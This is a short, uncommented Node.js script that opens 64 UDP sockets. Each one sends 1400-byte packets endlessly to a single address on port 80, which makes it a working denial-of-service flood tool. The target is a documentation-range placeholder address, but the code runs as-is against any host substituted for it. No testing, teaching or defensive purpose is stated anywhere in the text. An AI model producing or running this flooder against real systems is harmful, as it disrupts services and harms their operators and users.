const dgram = require('dgram');
const buf = Buffer.alloc(1400, 'A');
for (let i = 0; i < 64; i++) {
  const s = dgram.createSocket('udp4');
  const go = () => s.send(buf, 80, '203.0.113.29', go);
  go();
}
